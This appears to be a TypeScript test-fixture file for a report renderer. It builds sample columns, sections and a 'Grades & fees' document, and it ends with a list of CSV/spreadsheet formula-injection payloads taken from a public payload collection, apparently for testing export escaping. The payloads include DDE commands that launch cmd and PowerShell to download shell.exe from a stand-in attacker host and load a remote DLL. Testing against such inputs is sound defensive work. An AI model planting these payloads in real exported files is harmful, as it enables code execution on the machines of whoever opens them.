import type { Column, FieldType, ReportDocument, Row, Section } from "../../../src/render/document";

/** A column labelled and named alike: `column("Fee", "number", "currency:USD")`. */
export function column(label: string, type: FieldType = "string", format?: string): Column {
  return { name: label.toLowerCase().replaceAll(" ", "_"), label, type, format };
}

export function sectionOf(
  title: string,
  columns: readonly Column[],
  rows: readonly Row[],
  more: Partial<Section> = {},
): Section {
  return {
    name: title.toLowerCase(),
    title,
    columns,
    rows_written: rows.length,
    rows_total: rows.length,
    truncated: false,
    chart: null,
    // Batches of uneven sizes, some empty: sources may give any.
    async *rows() {
      for (let at = 0, size = 0; at < rows.length; at += size, size = (size + 1) % 4) {
        yield rows.slice(at, at + size);
      }
    },
    ...more,
  };
}

/** `count` rows made as they are asked for. */
export function generatedSection(
  title: string,
  columns: readonly Column[],
  count: number,
  row: (index: number) => Row,
): Section {
  return sectionOf(title, columns, [], {
    rows_written: count,
    rows_total: count,
    async *rows() {
      for (let at = 0; at < count; at += 1000) {
        yield Array.from({ length: Math.min(1000, count - at) }, (_, i) => row(at + i));
      }
    },
  });
}

export function documentOf(sections: readonly Section[], more: Partial<ReportDocument> = {}): ReportDocument {
  return {
    title: "Grades & fees",
    description: "All students of 2026",
    generated_at: "2026-11-21T09:31:07Z",
    time_zone: "Europe/Berlin",
    locale: "en-US",
    filters: [{ label: "Grade", text: "between 60 and 100" }],
    sections,
    ...more,
  };
}

/**
 * The lines of payloadbox/csv-injection-payloads (MIT licence): texts that spreadsheets have run as
 * formulas or commands.
 */
export const CSV_INJECTIONS = [
  `DDE ("cmd";"/C calc";"!A0")A0`,
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
];
